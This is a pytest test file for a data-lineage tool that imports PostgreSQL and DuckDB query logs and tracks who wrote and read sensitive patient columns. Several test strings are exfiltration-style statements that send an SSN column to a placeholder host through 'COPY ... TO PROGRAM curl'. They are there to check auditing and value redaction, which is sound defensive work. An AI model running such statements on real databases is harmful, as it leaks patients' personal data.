"""Query logs: write statements add edges with their user and time, queries and writes add readers."""

from __future__ import annotations

import json
from datetime import UTC, datetime
from pathlib import Path

import duckdb
import pytest

from tests.conftest import REPO
from workbench.cli.main import main
from workbench.ledger import Ledger
from workbench.lineage.build import lineage_folder
from workbench.lineage.graph import LineageGraph
from workbench.lineage.history import _utc, read_log
from workbench.lineage.origins import blank_literals, load_origins, origin_of
from workbench.lineage.readers import all_reads, logged_reads, readers_of
from workbench.lineage.split import parse_file
from workbench.settings import Settings

LOGS = REPO / "tests" / "fixtures" / "query_logs"

# the statements of the fixture log, in every PostgreSQL log format: (user, time, failed, first words)
STATEMENTS = [
    ("bo", "2024-05-01T10:00:00.100000+00:00", False, "CREATE TABLE export.billing"),
    ("ana", "2024-05-01T10:05:00+00:00", False, "SELECT FIRST, BIRTHDATE"),
    ("ana", "2024-05-01T10:06:00+00:00", True, "INSERT INTO export.billing SELECT"),
    ("cy", "2024-05-01T10:07:00+00:00", False, "SET search_path"),
    ("bo", "2024-05-01T11:00:00+00:00", False, "SELECT ssn, tier"),
    ("dora", "2024-06-01T08:00:00+00:00", False, "INSERT INTO export.billing (member"),
    ("dora", "2024-06-01T08:30:00+00:00", False, "COPY (SELECT member"),
]


@pytest.mark.parametrize("name", ["postgres.log", "postgres.csv", "postgres.json"])
def test_postgres_logs_in_every_format(name: str) -> None:
    found = [(s.user, s.time, s.failed, s.text) for s in read_log(LOGS / name, "postgres")]
    assert [(u, t, f) for u, t, f, _ in found] == [(u, t, f) for u, t, f, _ in STATEMENTS]
    for (_, _, _, text), (_, _, _, start) in zip(found, STATEMENTS, strict=True):
        assert " ".join(text.split()).startswith(start)


# (log time, UTC ISO) -- negative rows: unreadable times are empty, not guessed
TIMES = [
    ("2024-05-01 10:00:00.100 UTC", "2024-05-01T10:00:00.100000+00:00"),
    ("2024-05-01 10:00:00 GMT", "2024-05-01T10:00:00+00:00"),
    ("2026-12-03 15:23:28.826752+00", "2026-12-03T15:23:28.826752+00:00"),
    ("2024-05-01 12:00:00+02", "2024-05-01T10:00:00+00:00"),
    ("2024-05-01T12:00:00+02:00", "2024-05-01T10:00:00+00:00"),
    ("2024-05-01T10:00:00Z", "2024-05-01T10:00:00+00:00"),
    ("2024-05-01", "2024-05-01T00:00:00+00:00"),
    ("yesterday", ""),
    ("", ""),
]


@pytest.mark.parametrize(("text", "expected"), TIMES)
def test_log_times_become_utc(text: str, expected: str) -> None:
    assert _utc(text) == expected


# (statement, text the stored form keeps, value it must not keep)
BLANKED = [
    ("INSERT INTO t SELECT a FROM s WHERE ssn = '999-12-3456'", "WHERE ssn = ''", "999-12-3456"),
    ("CREATE TABLE t AS SELECT CASE WHEN mrn = 123456 THEN 1 END AS x FROM s", "mrn = 0", "123456"),
    ("COPY (SELECT a FROM s WHERE n = 'Ada') TO 'out/feed.csv'", "'out/feed.csv'", "Ada"),
    ("UPDATE t SET name = 'Jane Roe' WHERE id = 7", "SET name = ''", "Jane"),
]
# Postgres: a program's command keeps its first word only, and the stored statement parses again
BLANKED_POSTGRES = [
    ("COPY (SELECT ssn FROM s) TO PROGRAM 'curl -T - https://example.invalid/up'", "TO 'program:curl'",
     "example.invalid"),
    ("COPY s TO PROGRAM '/usr/bin/gzip > /x/999-12-3456.gz' WITH (FORMAT csv)", "TO 'program:gzip'",
     "999-12-3456"),
    ("COPY s FROM PROGRAM 'curl https://example.invalid/?ssn=999-12-3456'", "FROM 'program:curl'",
     "999-12-3456"),
    ("COPY s TO STDOUT WITH (FORMAT csv, DELIMITER '|')", "TO STDOUT", "'|'"),
    ("COPY (SELECT a FROM s WHERE n = 'Ada') TO STDOUT", "TO STDOUT", "Ada"),
]  # fmt: skip


@pytest.mark.parametrize(("sql", "kept", "gone"), BLANKED)
def test_stored_statements_hold_no_literal_values(sql: str, kept: str, gone: str) -> None:
    [statement], _ = parse_file(sql, "duckdb")
    text = blank_literals(statement.expression).sql("duckdb")
    assert kept in text and gone not in text


@pytest.mark.parametrize(("sql", "kept", "gone"), BLANKED_POSTGRES)
def test_stored_copy_statements_are_valid_sql_without_values(sql: str, kept: str, gone: str) -> None:
    [statement], _ = parse_file(sql, "postgres")
    text = blank_literals(statement.expression).sql("postgres")
    assert kept in text and gone not in text
    [again], errors = parse_file(text, "postgres")
    assert errors == [] and again.expression.sql("postgres") == text


def test_a_logged_copy_to_program_is_a_recipient_and_a_read(
    hospital: Settings, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    log = tmp_path / "pg.log"
    log.write_text(
        "2026-11-30 09:03:04.000 UTC [4244] erin@clinic LOG:  statement: "
        "COPY (SELECT ssn FROM patients) TO PROGRAM 'curl -T - https://example.invalid/up';\n"
    )
    assert main(["lineage", "import-history", str(log), "--format", "postgres", "--json"]) == 0
    report = json.loads(capsys.readouterr().out)
    assert report["errors"] == []
    graph = LineageGraph.load(lineage_folder(hospital))
    assert ("patients.ssn", "file:program:curl.ssn") in {(e.source, e.target) for e in graph.edges()}
    stored = "".join(p.read_text() for p in (lineage_folder(hospital) / "history").rglob("*.sql"))
    assert "program:curl" in stored and "example.invalid" not in stored
    reads = [r for r in logged_reads(hospital) if r.principal == "erin"]
    assert reads and any("patients" in t for r in reads for t in r.tables)


@pytest.fixture
def imported(hospital: Settings, capsys: pytest.CaptureFixture[str]) -> dict[str, object]:
    code = main(["lineage", "import-history", str(LOGS / "postgres.log"), "--format", "postgres", "--json"])
    out, err = capsys.readouterr()
    assert code == 0, err
    return json.loads(out)  # type: ignore[no-any-return]


# (source, target, TYPE:SUBTYPE, user of the statement that wrote it)
WRITE_EDGES = [
    ("patients.ssn", "export.billing.ssn", "DIRECT:IDENTITY", "bo"),
    ("patients.ssn", "export.billing.tier", "INDIRECT:CONDITIONAL", "bo"),
    ("patients.last", "export.billing.name", "DIRECT:TRANSFORMATION", "bo"),
    ("patients.state", "export.billing.*", "INDIRECT:FILTER", "bo"),
    ("patients.first", "export.billing.name", "DIRECT:TRANSFORMATION", "dora"),
    ("patients.birthdate", "export.billing.*", "INDIRECT:FILTER", "dora"),
    ("export.billing.ssn", "file:exports/billing_feed.csv.ssn", "DIRECT:IDENTITY", "dora"),
]
# edges the failed INSERT would have added: the log says it failed, so it is not lineage
NOT_WRITTEN = [("patients.zip", "export.billing.*")]


def test_writes_add_edges_with_user_and_time_as_origin(
    imported: dict[str, object], hospital: Settings
) -> None:
    assert (imported["statements"], imported["writes"], imported["reads"]) == (7, 3, 5)
    assert (imported["skipped"], imported["failed"], imported["users"]) == (1, 1, 4)
    graph = LineageGraph.load(lineage_folder(hospital))
    origins = load_origins(lineage_folder(hospital))
    by_edge: dict[tuple[str, str, str], set[str]] = {}
    for source, target, key, data in graph.graph.edges(keys=True, data=True):
        by_edge[(source, target, key)] = set(data["origins"])
    for source, target, kind, user in WRITE_EDGES:
        paths = by_edge[(source, target, kind)]
        found = {origin_of(p, origins) for p in paths}
        assert any(o.kind == "query_log" and o.user == user and o.time for o in found), (source, target)
        assert any(f"_{user}_" in Path(p).name for p in paths)  # the origin's file name says who and when
    for source, target in NOT_WRITTEN:
        assert not any(s == source and t == target for s, t, _ in by_edge)


def test_readers_come_from_the_log_and_from_governed_queries(
    imported: dict[str, object], hospital: Settings, capsys: pytest.CaptureFixture[str]
) -> None:
    for argv in (
        ("login", "--user", "eve", "--role", "billing"),
        ("query", "SELECT SSN FROM patients LIMIT 1"),
        ("logout",),
    ):
        assert main(list(argv)) == 0
    capsys.readouterr()
    readers = readers_of(all_reads(hospital), columns=["patients.SSN"])
    assert {(r.principal, r.source) for r in readers} == {
        ("ana", "query log postgres.log"),  # probed it in a WHERE clause
        ("bo", "query log postgres.log"),  # copied it into export.billing
        ("dora", "query log postgres.log"),
        ("eve", "governed query"),
    }
    # the time window applies to logged reads too; a column nobody read has no readers
    may = readers_of(
        logged_reads(hospital),
        columns=["main.patients.ssn"],
        since=datetime(2024, 5, 1, tzinfo=UTC),
        until=datetime(2024, 5, 31, tzinfo=UTC),
    )
    assert {r.principal for r in may} == {"ana", "bo"}
    assert readers_of(all_reads(hospital), columns=["patients.MARITAL"]) == []
    billing = readers_of(logged_reads(hospital), tables=["export.billing"])
    assert {r.principal for r in billing} == {"bo", "dora"}


def test_no_literal_reaches_the_workspace_or_the_ledger(
    imported: dict[str, object], hospital: Settings
) -> None:
    stored = [p for p in lineage_folder(hospital).rglob("*") if p.is_file()]
    assert stored
    for path in stored:
        text = path.read_text(errors="replace")
        assert "999-12-3456" not in text and "Massachusetts" not in text and "02139" not in text, path
    [entry] = [e for e in Ledger(hospital.ledger_path).entries() if e.action == "lineage"]
    assert entry.detail["source"] == "query_log" and entry.detail["writes"] == 3
    assert "999-12-3456" not in json.dumps(entry.detail)


def test_importing_the_log_again_replaces_what_it_added(
    imported: dict[str, object], hospital: Settings, capsys: pytest.CaptureFixture[str]
) -> None:
    before = sorted(e.source + e.target for e in LineageGraph.load(lineage_folder(hospital)).edges())
    assert main(["lineage", "import-history", str(LOGS / "postgres.log"), "--format", "postgres"]) == 0
    capsys.readouterr()
    after = sorted(e.source + e.target for e in LineageGraph.load(lineage_folder(hospital)).edges())
    assert before == after
    assert len(logged_reads(hospital)) == 5


def test_a_real_duckdb_query_log(
    hospital: Settings, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    logs = tmp_path / "duckdb_logs"
    con = duckdb.connect()
    con.execute(
        "CALL enable_logging('QueryLog', storage = 'file', storage_config = {'path': $path})",
        {"path": str(logs)},
    )
    con.execute("CREATE TABLE patients (Id VARCHAR, SSN VARCHAR, CITY VARCHAR)")
    con.execute(
        "CREATE TABLE staged AS SELECT Id, sha256(SSN) AS ssn_key FROM patients WHERE CITY = 'Boston'"
    )
    con.execute("SELECT ssn_key FROM staged")
    con.close()
    argv = ["lineage", "import-history", str(logs), "--format", "duckdb", "--user", "etl", "--json"]
    assert main(argv) == 0, capsys.readouterr().err
    report = json.loads(capsys.readouterr().out)
    assert report["writes"] == 2  # the CREATE TABLE with columns defines a schema, the CTAS adds edges
    found = {
        (e.source, e.target, e.type, e.subtype, e.transform)
        for e in LineageGraph.load(lineage_folder(hospital)).edges()
    }
    assert ("patients.ssn", "staged.ssn_key", "DIRECT", "TRANSFORMATION", "hash") in found
    readers = readers_of(logged_reads(hospital), columns=["staged.ssn_key"])
    assert [(r.principal, r.count) for r in readers] == [("etl", 1)]


# (format, bad input) -> a one-sentence error, not a traceback
def test_unknown_format_and_missing_file(settings: Settings, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["lineage", "import-history", str(LOGS / "postgres.log"), "--format", "oracle"]) == 1
    assert main(["lineage", "import-history", str(LOGS / "missing.log"), "--format", "postgres"]) == 1
    err = capsys.readouterr().err
    assert "Cannot read the query log" in err and "Traceback" not in err


def test_a_statement_that_writes_and_reads_nothing_is_counted_as_skipped(
    settings: Settings, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    log = tmp_path / "q.jsonl"
    rows = ["CALL enable_logging('QueryLog')", "SELECT 1 FROM t", "CALL disable_logging()"]
    log.write_text(
        "".join(
            json.dumps({"type": "QueryLog", "timestamp": "2024-05-01 10:00:00", "message": r}) + "\n"
            for r in rows
        )
    )
    assert main(["lineage", "import-history", str(log), "--format", "duckdb", "--json"]) == 0
    report = json.loads(capsys.readouterr().out)
    assert (report["statements"], report["reads"], report["skipped"]) == (3, 1, 2)
